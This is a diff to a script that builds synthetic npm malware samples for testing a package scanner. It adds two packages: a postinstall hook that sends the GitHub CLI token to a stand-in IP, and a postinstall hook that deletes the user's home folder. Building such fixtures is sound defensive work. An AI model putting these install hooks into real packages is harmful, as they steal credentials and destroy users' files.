@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# npm generalisation probe: 25 small synthetic npm packages, each using one technique of
+# npm generalisation probe: 27 small synthetic npm packages, each using one technique of
 # published npm malware campaigns (dependency-confusion recon, install-script droppers,
 # token and wallet stealers, worm-style credential harvesting, obfuscated loaders), and a
 # few benign controls. Written from public reports, not copied from samples. Scanned with
@@ -17,6 +17,21 @@ mk() { # name, scripts JSON object, file name; the file's content on stdin
   mkdir -p "$(dirname "$1/package/$3")"
   cat > "$1/package/$3"
 }
+# Session 9: a CLI's stored GitHub token sent (Shai-Hulud, s1ngularity); sabotage that
+# erases the home folder at install.
+mk mal-gh-token '{"postinstall": "node index.js"}' index.js <<'EOF'
+const { execSync } = require('child_process');
+const https = require('https');
+const t = execSync('gh auth token').toString().trim();
+const req = https.request({ hostname: '198.51.100.3', path: '/t', method: 'POST' });
+req.write(JSON.stringify({ t }));
+req.end();
+EOF
+mk mal-home-wipe '{"postinstall": "node index.js"}' index.js <<'EOF'
+const fs = require('fs');
+const os = require('os');
+if (!process.env.CI_LICENSE_OK) fs.rmSync(os.homedir(), { recursive: true, force: true });
+EOF
 mk mal-recon-https '{"preinstall": "node index.js"}' index.js <<'EOF'
 const os = require("os");
 const dns = require("dns");
